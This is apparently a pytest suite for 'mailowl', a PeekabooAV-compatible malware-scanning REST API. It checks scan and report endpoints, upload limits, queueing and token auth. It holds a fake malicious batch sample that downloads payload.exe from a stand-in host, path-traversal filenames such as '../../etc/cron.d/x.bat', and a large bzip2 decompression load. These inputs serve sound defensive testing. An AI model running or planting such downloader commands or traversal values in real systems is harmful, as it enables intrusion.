"""The REST API over a real socket, with v1 clients' exact requests."""

from __future__ import annotations

import bz2
from collections.abc import Iterator
from pathlib import Path

import pytest

from .server import Server

BAT = b"@echo off\r\ncurl http://x.invalid/payload.exe -o %TEMP%\\p.exe\r\n"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    srv = Server(tmp_path_factory.mktemp("api"), '[server]\nmax_sample_size = "1MiB"\n')
    yield srv
    srv.stop()


def poll_v1(server: Server, job_id: int) -> dict[str, str]:
    server.verdict(job_id)  # long-poll until done, then ask v1
    status, payload, _ = server.request("GET", f"/v1/report/{job_id}")
    assert status == 200
    return dict(payload)


def test_root_and_ping(server: Server) -> None:
    assert server.request("GET", "/")[:2] == (200, {"hello": "PeekabooAV", "product": "mailowl",
                                                     "version": "0.1.0"})
    assert server.request("GET", "/ping")[:2] == (200, {"answer": "pong"})


def test_scan_and_report_v1(server: Server) -> None:
    status, payload, _ = server.scan(BAT, "cat.png.bat")
    assert status == 200 and set(payload) == {"job_id"} and isinstance(payload["job_id"], int)
    report = poll_v1(server, payload["job_id"])
    assert report == {"result": "bad", "reason": report["reason"]} and report["reason"]


def test_report_errors_v1(server: Server) -> None:
    assert server.request("GET", "/v1/report/0")[:2] == (400, {"message": "job ID missing from request"})
    assert server.request("GET", "/v1/report/987654")[:2] == (404, {"message": "No analysis result yet for job 987654"})
    # PeekabooAV's route did not match, so it said 404; mailowl says what is wrong with the id
    assert server.request("GET", "/v1/report/abc")[0] == 400


def test_pending_is_404_in_v1_but_visible_in_v2(tmp_path: Path) -> None:
    # 300 MB of zeros, bzip2-compressed: unpacking takes a while (outside the GIL), so the job stays pending
    slow = tmp_path / "slow.toml"
    slow.write_text('rules = ["archive", "final_rule"]\n[archive]\nmax_total_size = 400000000\n'
                    'max_ratio = 100000000\n')
    srv = Server(tmp_path, '[server]\nmax_sample_size = "10MiB"\n', ruleset=str(slow))
    try:
        compressor = bz2.BZ2Compressor(1)
        data = b"".join(compressor.compress(b"\x00" * 2**20) for _ in range(300)) + compressor.flush()
        status, payload, _ = srv.scan(data, "zeros.bz2")
        job_id = payload["job_id"]
        status, v1, _ = srv.request("GET", f"/v1/report/{job_id}")
        status2, v2, _ = srv.request("GET", f"/v2/jobs/{job_id}")
        assert (status, v1) == (404, {"message": f"No analysis result yet for job {job_id}"})
        assert status2 == 200 and v2["state"] == "pending" and v2["result"] is None
        assert srv.request("GET", "/ping")[0] == 200  # the API answers while the analysis runs
        done = srv.verdict(job_id, 120)
        assert done["result"] == "unknown"
        assert srv.request("GET", f"/v1/report/{job_id}")[0] == 200
    finally:
        srv.stop()


@pytest.mark.parametrize(("filename_param", "expected"), [
    ("; filename*=utf-8''R%C3%A9sum%C3%A9%20final.bat", "Résumé final.bat"),
    ('; filename="C:\\\\Users\\\\me\\\\evil.bat"', "evil.bat"),
    ('; filename="../../etc/cron.d/x.bat"', "x.bat"),
    ("; filename=plain.bat", "plain.bat"),
    ('; filename="=?utf-8?B?w7xiZXIuYmF0?="', "über.bat"),  # RFC 2047 in a form: decoded
])
def test_filenames_as_clients_send_them(server: Server, filename_param: str, expected: str) -> None:
    status, payload, _ = server.scan(BAT, filename_param=filename_param)
    assert status == 200, payload
    job = server.verdict(payload["job_id"])
    assert job["sample"]["filename"] == expected


def test_declared_type_and_disposition(server: Server) -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + b"\x00" * 40
    status, payload, _ = server.scan(png, "logo.png", "IMAGE/PNG; charset=binary", disposition_header="inline")
    job = server.verdict(payload["job_id"])
    assert job["sample"]["type_declared"] == "image/png"
    assert job["sample"]["content_disposition"] == "inline"
    assert job["result"] == "ignored"  # the built-in ruleset ignores inline images


@pytest.mark.parametrize(("kwargs", "status", "message"), [
    ({"field": "upload"}, 400, 'Field "file" missing from request'),
    ({"extra_parts": b'------mailowltestboundary\r\nContent-Disposition: form-data; name="file2"\r\n\r\nx\r\n'},
     400, 'Invalid number of fields in form, we accept only one field "file"'),
])
def test_wrong_forms(server: Server, kwargs: dict[str, object], status: int, message: str) -> None:
    assert server.scan(BAT, "a.bat", **kwargs)[:2] == (status, {"message": message})  # type: ignore[arg-type]


def test_not_multipart_and_no_parts(server: Server) -> None:
    assert server.request("POST", "/v1/scan", b"file=x", {"Content-Type": "application/x-www-form-urlencoded"})[:2] \
        == (400, {"message": "Invalid content type, use multipart/form-data"})
    assert server.request("POST", "/v1/scan", b"", {})[:2] == \
        (400, {"message": "Invalid content type, use multipart/form-data"})
    empty = b"------b--\r\n"
    assert server.request("POST", "/v1/scan", empty, {"Content-Type": "multipart/form-data; boundary=----b"})[:2] \
        == (400, {"message": "Invalid MIME structure in request"})
    assert server.request("POST", "/v1/scan", b"garbage", {"Content-Type": "multipart/form-data"})[:2] \
        == (400, {"message": "Invalid MIME structure in request"})
    truncated = b'------b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nabc'
    status, payload, _ = server.request("POST", "/v1/scan", truncated,
                                        {"Content-Type": "multipart/form-data; boundary=----b"})
    assert status == 400 and "message" in payload


def test_oversized_uploads_get_413(server: Server) -> None:
    big = b"x" * (2 * 2**20)
    status, payload, _ = server.scan(big, "big.bin")
    assert status == 413 and "limit is 1048576 bytes" in payload["message"]
    # chunked, no Content-Length: refused while streaming
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    boundary = "zz"
    head = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'.encode()

    def chunks() -> Iterator[bytes]:
        yield head
        for _ in range(40):
            yield b"y" * 65536
        yield f"\r\n--{boundary}--\r\n".encode()

    conn.request("POST", "/v1/scan", body=chunks(), headers={
        "Content-Type": f"multipart/form-data; boundary={boundary}", "Transfer-Encoding": "chunked"},
        encode_chunked=True)
    response = conn.getresponse()
    assert response.status == 413
    conn.close()
    assert server.request("GET", "/ping")[0] == 200  # still serving


def test_v2_scan_with_options_and_job(server: Server) -> None:
    options = (b'------mailowltestboundary\r\nContent-Disposition: form-data; name="options"\r\n\r\n'
               b'{"wait": 20}\r\n')
    status, job, _ = server.scan(BAT, "v2.bat", path="/v2/scan", extra_parts=options)
    assert status == 200 and job["state"] == "done" and job["result"] == "bad"
    assert [r["rule"] for r in job["rules"]][0] == "known"
    assert job["sample"]["sha256"] and job["sample"]["size"] == len(BAT) and job["sample"]["md5"]
    assert job["sample"]["type_by_content"] == "text/x-msdos-batch"
    # the same sample again is answered from the verdict cache by `known`
    status, again, _ = server.scan(BAT, "v2.bat", path="/v2/scan", extra_parts=options)
    assert again["result"] == "bad" and [r["rule"] for r in again["rules"]] == ["known"]
    forced = options.replace(b'{"wait": 20}', b'{"wait": 20, "force": true}')
    status, fresh, _ = server.scan(BAT, "v2.bat", path="/v2/scan", extra_parts=forced)
    assert len(fresh["rules"]) > 1
    bad_options = options.replace(b'{"wait": 20}', b'{"colour": "red"}')
    status, payload, _ = server.scan(BAT, "v2.bat", path="/v2/scan", extra_parts=bad_options)
    assert status == 400 and "unknown key(s) colour" in payload["message"]


def test_v2_job_errors(server: Server) -> None:
    assert server.request("GET", "/v2/jobs/123456")[:2] == (404, {"message": "No job 123456"})
    assert server.request("GET", "/v2/jobs/abc")[0] == 400
    assert server.request("GET", "/v2/jobs/1?wait=soon")[0] == 400
    assert server.request("GET", "/v2/jobs/1?wait=100000")[0] == 400


def test_openapi_health_metrics(server: Server) -> None:
    status, doc, _ = server.request("GET", "/openapi.json")
    assert status == 200 and doc["openapi"].startswith("3.") and "/v1/scan" in doc["paths"]
    assert server.request("GET", "/healthz")[0] == 200
    status, text, headers = server.request("GET", "/metrics")
    assert status == 200 and "mailowl_jobs_total" in text and "mailowl_queue_depth" in text
    assert "mailowl_analysis_seconds_bucket" in text


def test_unknown_paths_and_methods_are_json(server: Server) -> None:
    assert server.request("GET", "/nope")[:2] == (404, {"message": "Requested URL /nope not found"})
    assert server.request("DELETE", "/ping")[0] == 405


def test_bearer_token(tmp_path: Path) -> None:
    srv = Server(tmp_path, env={"MAILOWL_SERVER_TOKEN": "s3cret"})
    try:
        assert srv.request("GET", "/ping", headers={"Authorization": "Bearer wrong"})[0] == 401
        status, payload, headers = srv.request("GET", "/v1/report/1", headers={"Authorization": ""})
        assert status == 401 and headers["www-authenticate"] == "Bearer"
        assert srv.request("GET", "/healthz", headers={"Authorization": ""})[0] == 200
        assert srv.request("GET", "/ping")[0] == 200
        assert srv.scan(BAT, "a.bat")[0] == 200
    finally:
        srv.stop()


def test_full_queue_answers_503_with_retry_after(tmp_path: Path) -> None:
    slow = tmp_path / "slow.toml"
    slow.write_text('rules = ["archive", "final_rule"]\n[archive]\nmax_total_size = 400000000\nmax_ratio = 100000000\n')
    srv = Server(tmp_path, '[server]\nmax_sample_size = "10MiB"\n[queue]\nsize = 1\nworkers = 1\n', ruleset=str(slow))
    try:
        compressor = bz2.BZ2Compressor(1)
        data = b"".join(compressor.compress(b"\x00" * 2**20) for _ in range(300)) + compressor.flush()
        first = srv.scan(data, "zeros.bz2")
        assert first[0] == 200
        status, payload, headers = srv.scan(b"another sample entirely", "b.bin")
        assert (status, payload) == (503, {"message": "Analysis queue is full, try again later"})
        assert headers["retry-after"] == "5"
        srv.verdict(first[1]["job_id"], 120)
        assert srv.scan(b"another sample entirely", "b.bin")[0] == 200  # room again
    finally:
        srv.stop()
